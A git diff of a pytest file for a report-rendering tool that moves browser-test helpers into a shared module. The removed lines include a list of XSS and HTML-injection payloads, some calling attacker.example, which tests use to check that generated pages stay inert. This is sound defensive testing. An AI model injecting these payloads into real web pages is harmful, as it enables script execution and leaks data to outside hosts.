@@ -11,33 +11,9 @@ import pytest
 
 from lite_align.evaluate.folder import read
 from lite_align.evaluate.report import badges, command_line, differences, render, write
+from tests.browser import ATTACKS, CONTRAST, chromium, needs_chromium
 
 Builder = Callable[..., Path]
-CHROMIUM = Path("/usr/bin/chromium")
-BROWSER = [
-    "--no-sandbox",
-    "--disable-gpu",
-    "--disable-background-networking",
-    "--no-first-run",
-    "--disable-sync",
-]
-
-ATTACKS = (
-    "<script>window.hit=1</script>",
-    "<img src=x onerror=window.hit=1>",
-    "<svg/onload=window.hit=1>",
-    "</p></article><iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
-    '" onmouseover="window.hit=1" autofocus onfocus="window.hit=1',
-    "<a href='javascript:window.hit=1'>x</a>",
-    "<style>@import 'https://attacker.example/x.css';</style>",
-    "<link rel=stylesheet href=https://attacker.example/x.css><img src=https://attacker.example/p.png>",
-    "<meta http-equiv=refresh content='0;url=https://attacker.example/'>",
-    "<base href=https://attacker.example/><form action=https://attacker.example><button>x</button></form>",
-    "{{ 7*7 }}{% raw %}<b>",
-    "</style><script>window.hit=1</script>",
-    "\u202egnirts desrever \u2066\u200b",
-    "\x1b[31mred\x07 \ud800 ]]><!--",
-)
 
 
 class Tags(HTMLParser):
@@ -257,24 +233,17 @@ def test_the_page_of_a_policy_tells_of_hacking_first_and_shows_samples(build_pol
 
 # In a browser.
 
-needs_chromium = pytest.mark.skipif(not CHROMIUM.exists(), reason=f"{CHROMIUM} is not installed")
-
 
 @contextmanager
 def opened(path: Path, **options) -> Iterator[tuple]:
     """The page in headless Chromium, and the list of addresses that it asked for."""
-    playwright = pytest.importorskip("playwright.sync_api", reason="playwright is in the dev extra")
-    with playwright.sync_playwright() as driver:
-        browser = driver.chromium.launch(executable_path=str(CHROMIUM), args=BROWSER)
-        try:
-            page = browser.new_context(**options).new_page()
-            asked: list[str] = []
-            page.on("request", lambda request: asked.append(request.url))
-            page.on("dialog", lambda dialog: asked.append("dialog"))
-            page.goto(path.as_uri())
-            yield page, asked
-        finally:
-            browser.close()
+    with chromium() as browser:
+        page = browser.new_context(**options).new_page()
+        asked: list[str] = []
+        page.on("request", lambda request: asked.append(request.url))
+        page.on("dialog", lambda dialog: asked.append("dialog"))
+        page.goto(path.as_uri())
+        yield page, asked
 
 
 @pytest.mark.slow
@@ -308,26 +277,6 @@ def test_in_a_browser_figures_show_filters_work_and_narrow_windows_fit(build: Bu
         assert page.locator("article:visible").count() == 4
         lightest = page.evaluate(CONTRAST)
         assert lightest >= 4.5
-
-
-CONTRAST = """() => {
-  const part = v => { v /= 255; return v <= 0.04045 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4 };
-  const parse = c => { const [r, g, b, a = 1] = c.match(/[\\d.]+/g).map(Number); return {r, g, b, a} };
-  const light = c => 0.2126 * part(c.r) + 0.7152 * part(c.g) + 0.0722 * part(c.b);
-  const back = e => {
-    for (; e; e = e.parentElement) { const c = parse(getComputedStyle(e).backgroundColor); if (c.a) return c }
-    return {r: 255, g: 255, b: 255};
-  };
-  let least = 21;
-  for (const e of document.querySelectorAll('body *')) {
-    const own = [...e.childNodes].some(n => n.nodeType === 3 && n.textContent.trim());
-    if (!own || !e.checkVisibility() || e.closest('.skip')) continue;
-    const svg = e.closest('svg');
-    const a = light(parse(svg ? getComputedStyle(e).fill : getComputedStyle(e).color)), b = light(back(e));
-    least = Math.min(least, (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05));
-  }
-  return least;
-}"""
 
 
 @pytest.mark.slow
